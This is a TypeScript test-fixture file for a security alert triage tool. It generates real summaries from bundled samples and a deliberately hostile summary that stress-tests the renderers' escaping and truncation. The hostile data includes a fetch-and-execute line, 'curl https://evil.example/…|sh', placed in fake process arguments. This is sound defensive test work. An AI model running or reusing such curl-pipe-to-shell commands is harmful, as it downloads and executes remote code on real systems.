/**
 * Real summaries for the subscriber's tests: the repo's engine run on the bundled samples, the
 * fixture logs and the related findings, exactly as `scripts/triage-outputs.js` runs it. Nothing is
 * hand-written, so a change in the summary shows up here too.
 */
import { join } from 'node:path';
import { defaultConfig } from '../../src/config';
import { triage } from '../../src/engine';
import { ExportedLogSource } from '../../src/logs/exported-logs';
import { LocalFindingSource } from '../../src/related/local';
import { type Summary, summarySchema } from '../../src/summary/schema';
import { fixturesDir, loadSample, logsDir, sampleNames } from './fixtures';

/** The samples that are triaged or updated (the out-of-scope one is skipped by the triage). */
export const summarySampleNames: readonly string[] = sampleNames.filter((name) => !name.startsWith('out-of-scope'));

/** The summary the triage publishes for a sample. */
export async function summaryOf(name: string): Promise<Summary> {
  const ports = { logs: new ExportedLogSource(logsDir), findings: new LocalFindingSource(join(fixturesDir, 'related')), now: () => new Date() };
  const result = await triage(loadSample(name), ports, defaultConfig);
  if (result.kind === 'skipped') throw new Error(`${name} was skipped: ${result.reason}`);
  return result.summary;
}

const hostileText = '<!channel> <https://evil.example/x|click> *bold* _it_ ~s~ `code` &amp; <users/all> <b>html</b> 🔥\u{1F600}';

/** The same, with a long run of text that ends on a surrogate pair, so a cut must not split it. */
const huge = (seed: string, length: number) => `${seed} ${'A'.repeat(length)}\u{1F600}`.padEnd(length, '\u{1F600}');

/**
 * A hostile summary: valid by the schema, every string the renderers show replaced by text that
 * would form a mention, a link, markup or HTML if it were not escaped, huge strings that must be
 * cut, emoji and surrogate pairs at cut points, and 100 processes, indicators and highlights.
 */
export async function hostileSummary(): Promise<Summary> {
  const base = await summaryOf('gke-reverse-shell.json');
  const s = JSON.parse(JSON.stringify(base)) as Summary & Record<string, any>;
  s.headline = huge(hostileText, 100_000);
  s.finding.category = huge(hostileText, 5_000);
  s.assessment.reasons = Array.from({ length: 40 }, (_, i) => huge(`${i} ${hostileText}`, 4_000));
  Object.assign(s.workload, { projectId: hostileText, cluster: huge(hostileText, 3_000), namespace: '<!here>', pod: '<@U12345> `x`', container: '&lt;script&gt;', image: 'https://evil.example/img' });
  s.processes = Array.from({ length: 100 }, (_, i) => ({ binary: `/bin/sh${i} <!channel>`, args: ['sh', '-c', huge(`curl https://evil.example/${i}|sh ${hostileText}`, 2_500)] }));
  s.indicators.urls = Array.from({ length: 100 }, (_, i) => `https://evil.example/${i}?a=<b>&c=d`);
  s.indicators.hosts = [{ host: '<users/all>.evil.example' }];
  s.highlights = Array.from({ length: 100 }, (_, i) => ({ ...base.highlights[0]!, summary: huge(`${i} ${hostileText}`, 3_000) }));
  s.update = { change: huge(hostileText, 10_000), firstTriageIds: [] };
  s.triageId = `${hostileText}${'9'.repeat(500)}`;
  return summarySchema.parse(s);
}
